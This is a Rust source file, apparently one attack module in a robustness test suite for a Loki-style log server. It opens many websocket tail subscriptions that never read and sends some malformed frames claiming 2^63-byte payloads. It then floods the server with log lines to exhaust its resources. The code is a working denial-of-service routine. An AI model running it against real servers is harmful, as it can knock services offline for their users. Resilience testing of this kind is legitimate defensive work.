//! Websockets that follow everything and never read, while much is pushed.

use std::io::Write;

use anyhow::Result;

use super::Attack;
use crate::ground::Ground;
use crate::raw;

/// This attack.
pub static ATTACK: Attack =
    Attack { name: "followers", about: "tails that never read, while much is pushed", run };

fn run(ground: &Ground<'_>) -> Result<()> {
    let mut held = Vec::new();
    let path = "/loki/api/v1/tail?query=%7Bjob%3D~%22.%2B%22%7D&limit=5000";
    let headers = [
        ("Connection", "Upgrade"),
        ("Upgrade", "websocket"),
        ("Sec-WebSocket-Version", "13"),
        ("Sec-WebSocket-Key", "c2FuZHVyLWF0dGFjayAxMg=="),
    ];
    for n in 0..ground.pick(20, 100) {
        let Ok(mut stream) = ground.connect() else { continue };
        if stream.write_all(raw::head("GET", path, &headers, 0).as_bytes()).is_err() {
            continue;
        }
        if n % 4 == 0 {
            // A frame that announces 2^63 bytes, masked, and one that is cut off.
            let _ =
                stream.write_all(&[0x82, 0xFF, 0x7F, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 1, 2, 3, 4]);
        }
        held.push(stream);
    }
    let line = "0123456789".repeat(200);
    for _ in 0..ground.pick(20, 200) {
        ground.store_lines("followed", &vec![line.clone(); 500]);
    }
    Ok(())
}
